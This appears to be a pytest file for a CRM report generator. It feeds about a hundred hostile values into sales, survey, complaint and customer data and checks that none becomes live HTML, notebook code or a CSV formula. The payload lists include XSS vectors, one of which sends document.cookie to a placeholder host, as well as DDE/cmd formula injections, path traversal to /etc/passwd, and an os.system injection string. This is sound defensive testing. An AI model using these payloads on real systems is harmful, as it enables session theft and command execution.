"""A hundred hostile values in every place that a file has: nothing of them runs or is markup."""

import ast
import csv
import json
import re
import tomllib
from html.parser import HTMLParser
from urllib.parse import quote

import nbformat
import numpy as np
import pandas as pd
import pytest
from displayed import shown
from test_reports import write_complaints, write_customers, write_sales, write_survey

from crmlab import theme
from crmlab.briefing.key_figures import key_figure
from crmlab.briefing.missing import Missing
from crmlab.briefing.report import Report
from crmlab.reports.making import make_report
from crmlab.reports.many import make_reports
from crmlab.tables import read_transactions, write_csv

MARK = "zq-7"  # in each value, so that it is found wherever it comes to
RUNS = ["alert(1)", "fetch('//h/?'+document.cookie)"]
TAGS = [
    "<script>{}</script>", "<SCRIPT SRC=//h/x.js>{}", "</style><script>{}</script>",
    "</title><script>{}</script>", "--><script>{}</script>", "]]><script>{}</script>",
    "<img src=x onerror={}>", "<img src=x onerror='{}'//", "<svg onload={}>", "<svg/onload={}//",
    "<body onload={}>", "<details open ontoggle={}>", "<a href='javascript:{}'>x</a>",
    "<iframe srcdoc='<script>{}</script>'>", "<iframe src=javascript:{}>", "<math><mi>{}</mi>",
    "<form action=javascript:{}><input type=submit>", "<object data=javascript:{}>",
    "<embed src=javascript:{}>", "<base href=//h/>", "<link rel=stylesheet href=//h/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<style>*{{x:url(//h/)}}</style>",
    "<video><source onerror={}>", "<template><b>{}", "<!--", "<b", "</p></td></table><h1>{}</h1>",
    "</li></ol><h2>{}</h2>", "<textarea>", "<plaintext>", "<?php {} ?>", "<%= {} %>",
    '" onmouseover="{}', "' onmouseover='{}", "` onmouseover=`{}", '"><b>{}', "'><b>{}",
    "&lt;script&gt;{}&lt;/script&gt;", "&#60;script&#62;{}&#60;/script&#62;", "&", "&nbsp;", "&#0;",
    "javascript:{}", "data:text/html,<script>{}</script>", "vbscript:{}", "+ADw-script+AD4-{}",
]  # fmt: skip
FORMULAS = [
    "=1+1", "=HYPERLINK(\"//h\",\"x\")", "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "'=1+1", "＝1+1", "＋1", "－1",
    "＠SUM(1)", "=IMPORTXML(\"//h\",\"//a\")", "\u00a0=1+1", "=1+1\";=2", "DDE(\"cmd\";\"/C\")",
]  # fmt: skip
PROSE = [
    "# heading", "**bold**", "[x](javascript:alert(1))", "![x](//h/x.png)", "<//h/>", "```\ncode",
    "| a | b |\n|---|---|", "$x^2$", "$$\\frac{1}{2}$$", "\\(x\\)", "\\[x\\]", "$\\frac$",
    "$5 to $9", "\\begin{equation}x\\end{equation}", "$\\href{javascript:alert(1)}{x}$",
    "x_{1}^{2}", "---", "> x",
]  # fmt: skip
BRACES = [
    "{x}", "{0}", "{", "}", "{{x}}", "{% x %}", "{{ cookie }}", "{self.__class__}", "%s", "%(x)s",
    "%", "${x}", "$(id)", "`id`", "{name!r}",
]  # fmt: skip
SIGNS = [
    "\u202etxt.exe", "\u2066x\u2069", "\u200f", "\u200bx\u200d", "\ufeff", "a\x00b", "\x1b[31mred",
    "\x1b]0;title\x07", "\x08\x08", "\x7f", "a\nb", "a\r\nb", "\u2028", "\u0301" * 30, "😀" * 20,
    "../../etc/passwd", "..\\..\\x", "C:\\x", "/etc/passwd", "CON", "x" * 5000, "''", '""', ",;|\t",
    "None", "nan", "''' + __import__('os').system('id') + '''", '"""', "\\", "\\n", "\ud7ff",
]  # fmt: skip
HOSTILE = [
    f"{value}{MARK}"
    for value in [*(t.format(r) for r in RUNS for t in TAGS), *FORMULAS, *PROSE, *BRACES, *SIGNS]
]
FILE = f"<img src=x onerror=alert(1)>'\"&{{x}}%s$a$ =1+1 {MARK}.parquet"

ELEMENTS = {
    *(
        "a",
        "body",
        "code",
        "dd",
        "div",
        "dl",
        "dt",
        "em",
        "h1",
        "h2",
        "h3",
        "head",
        "html",
        "img",
        "li",
    ),
    *("main", "meta", "nav", "ol", "p", "span", "strong", "style", "table", "tbody", "td", "th"),
    *("thead", "title", "tr", "ul"),
}
ATTRIBUTES = {
    *("alt", "aria-label", "charset", "class", "content", "href", "id", "lang", "name", "scope"),
    *("src", "style", "type", "width", "data-jp-theme-light", "data-jp-theme-name"),
    *("data-mime-type", "dir", "tabindex"),
}
FORMULA = re.compile(r"\$.*\$|\\[(\[]|\\begin", re.DOTALL)
UNSEEN = re.compile("[\x00-\x08\x0e-\x1f\x7f\u202a-\u202e\u2066-\u2069]")


class Elements(HTMLParser):
    """What a page is made of: every element and attribute that is none of ours is a leak."""

    def __init__(self, html):
        super().__init__()
        self.leaks, self.text, self.inside = [], [], []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.inside.append(tag)
        names = {name for name, _ in attrs}
        if tag not in ELEMENTS or names - ATTRIBUTES:
            self.leaks.append((tag, attrs))
        for name, value in attrs:
            is_ours = name == "alt" or MARK not in (value or "")
            is_here = name not in ("src", "href") or (value or "").startswith(("data:image/", "#"))
            if not (is_ours and is_here):
                self.leaks.append((tag, name, value))

    def handle_data(self, data):
        if self.inside[-1:] == ["style"] and MARK in data:
            self.leaks.append(("style", data))
        self.text.append(data)

    def handle_comment(self, data):
        if MARK in data:
            self.leaks.append(("comment", data))

    def handle_decl(self, decl):
        if decl.casefold() != "doctype html":
            self.leaks.append(("declaration", decl))

    def unknown_decl(self, data):
        self.leaks.append(("declaration", data))

    handle_pi = unknown_decl


def leaks(html):
    """Return what values have made of a piece of HTML: elements, attributes, formulas, directions.

    A formula of mathematics begins and ends in one text.
    """
    page = Elements(html)
    odd = [text for text in page.text if FORMULA.search(text) or UNSEEN.search(text)]
    return page.leaks + odd


def together(values, parts):
    """Return all values in a few: as many as a page shows of one kind."""
    return [" ".join(values[place::parts]) for place in range(parts)]


def hostile_sales(path):
    frame = write_sales(path, customers=len(HOSTILE))
    frame = frame.astype({"customer id": object}).assign(
        **{"customer id": np.resize(HOSTILE, len(frame))}
    )
    columns = {}
    for seed, meaning in enumerate(["product_id", "store", "product_name"]):
        order = np.random.default_rng(seed).permutation(HOSTILE)
        columns[meaning] = f"<b>{meaning} =1+1 {MARK}"
        frame[columns[meaning]] = np.resize(together(order, 9), len(frame))
    frame.to_parquet(path)
    return {"columns": {"customer_id": "customer id"} | columns}


def hostile_survey(path):
    frame = write_survey(path)
    names = together([value for value in HOSTILE if value.isprintable()], 4)
    frame["region"] = np.resize(together(HOSTILE, 8), len(frame))
    frame["customer id"] = np.resize(HOSTILE, len(frame))
    frame = frame.rename(columns=dict(zip(["sat1", "sat2", "staff", "price"], names, strict=True)))
    frame.to_parquet(path)
    return {"columns": {"satisfaction": names[:2], "drivers": names[2:], "group": "region"}}


def hostile_complaints(path):
    frame = write_complaints(path)
    texts = frame["text"] + " " + np.resize(HOSTILE, len(frame))
    frame = frame.assign(
        text=texts,
        channel=np.resize(together(HOSTILE, 9), len(frame)),
        cause=np.resize(together(HOSTILE[::-1], 9), len(frame)),
        agent=np.resize(HOSTILE, len(frame)),
    )
    label = f"<b>cause =1+1 {MARK}"
    frame.rename(columns={"cause": label}).to_parquet(path)
    return {"columns": {"cause": label}}


def hostile_customers(path):
    frame = write_customers(path, customers=len(HOSTILE))
    columns = {name: name for name in ["mobile", "email"]}
    frame[["name", "customer id"]] = np.array([HOSTILE, HOSTILE]).T
    for place, label in enumerate(together(HOSTILE, 6)):
        frame[label] = np.resize(HOSTILE[place:], len(frame))
    frame = frame.assign(mobile=HOSTILE, birth_date=HOSTILE, updated=frame["updated"].astype(str))
    frame.to_parquet(path)
    return {"columns": columns}


WRITE = {
    "complaints": hostile_complaints,
    "customer_value": hostile_sales,
    "strategy": hostile_sales,
    "data_quality": hostile_customers,
    "lifecycle": hostile_sales,
    "satisfaction": hostile_survey,
    "segmentation": hostile_sales,
}
WITH_LIST = {"customer_value", "lifecycle"}
SHOWN = {"customer_value": 100, "satisfaction": 20, "complaints": 5, "data_quality": 100}


@pytest.fixture(scope="module", params=WRITE)
def template(request):
    return request.param


@pytest.fixture(scope="module")
def page(template, tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile")
    reading = WRITE[template](folder / FILE)
    return make_report(
        folder / FILE,
        folder / "out",
        template=template,
        reading=reading,
        with_list=template in WITH_LIST,
    )


def test_no_value_becomes_part_of_the_page(page, template):
    html = page.read_text(encoding="utf-8")
    assert leaks(html) == []
    told = "".join(Elements(html).text)
    assert told.count(MARK) > SHOWN.get(template, 0)


def test_no_value_becomes_part_of_the_notebook(page):
    notebook = nbformat.read(page.with_suffix(".ipynb"), as_version=4)
    assert json.loads(page.with_suffix(".ipynb").read_text(encoding="utf-8"))
    for cell in notebook.cells:
        if cell.cell_type == "markdown":
            assert MARK not in cell.source
            continue
        names = [node for node in ast.walk(ast.parse(cell.source)) if isinstance(node, ast.Name)]
        assert not [name.id for name in names if MARK in name.id]
        for output in cell.outputs:
            kinds = {"text/plain", "text/html", "image/png"}
            assert {kind for kind in output.data if not kind.endswith("+json")} <= kinds
            html = output.data.get("text/html", "")
            assert leaks(html) == [] or (html.startswith("<script>") and MARK not in html)


def test_no_cell_of_a_list_is_run_and_the_reading_is_kept_as_text(page):
    lists = sorted(page.parent.glob("*.csv"))
    assert lists
    for path in lists:
        with path.open(encoding="utf-8-sig", newline="") as lines:
            cells = [cell for row in csv.reader(lines) for cell in row]
        assert not [cell for cell in cells if re.match(r"\s*[=+@＝＋－＠\t]|\s*-\D", cell)]
    for path in page.parent.glob("*.toml"):
        assert tomllib.loads(path.read_text(encoding="utf-8"))


def test_no_value_becomes_part_of_the_index(tmp_path):
    reading = hostile_sales(tmp_path / FILE)
    frame = pd.read_parquet(tmp_path / FILE)
    label = reading["columns"]["store"]
    frame[label] = np.resize(together([v for v in HOSTILE if v.isprintable()], 3), len(frame))
    frame.to_parquet(tmp_path / FILE)
    made = make_reports(
        tmp_path / FILE, tmp_path / "out", by=label, template="segmentation", reading=reading
    )
    assert (made.made, made.failed) == (3, 0)
    html = made.index.read_text(encoding="utf-8")
    page = Elements(html)
    ours = {"bdi", "button", "script", "div", "th", "td", "tfoot", "thead", "a"}
    ours.add("style")  # it has the title for the head of a printed page, as a string of CSS
    pages = {quote(path.name) for path in (tmp_path / "out").glob("*_segmentation.html")}
    links = {leak[2] for leak in page.leaks if leak[:2] == ("a", "href")}
    assert links == pages
    assert not [leak for leak in page.leaks if leak[0] not in ours]
    assert html.count("<script") == 1
    assert "<b>" not in html
    assert MARK not in html[html.index("<script") :]
    assert "".join(page.text).count(MARK) > 150


def test_each_value_alone_stays_a_text(tmp_path):
    sales = pd.DataFrame({"customer_id": [*"abcde"], "date": "2024-01-01", "amount": 1})
    reading = read_transactions(sales, quiet=True)
    for value in HOSTILE:
        report = Report(reading, value)
        ways = {
            report.say: ["{name}"],
            report.list: [[value]],
            report.open_section: [value, value],
            report.open_page: [None, [key_figure(value, 1, lambda _, text=value: text)]],
            report.show: [Missing("{why}", why=value)],
        }
        for way, arguments in ways.items():
            _, html = shown(way, *arguments)
            assert leaks(html) == [], value
            assert MARK in html
        table = theme.table(pd.DataFrame({value: [value]}, index=[value]))
        assert leaks(table._repr_html_()) == [], value
    write_csv(pd.DataFrame({value: [value] for value in HOSTILE}), tmp_path / "list.csv")
    with (tmp_path / "list.csv").open(encoding="utf-8-sig", newline="") as lines:
        for cell in [cell for row in csv.reader(lines) for cell in row]:
            assert not re.match(r"\s*[=+@＝＋－＠\t]|\s*-\D", cell), cell
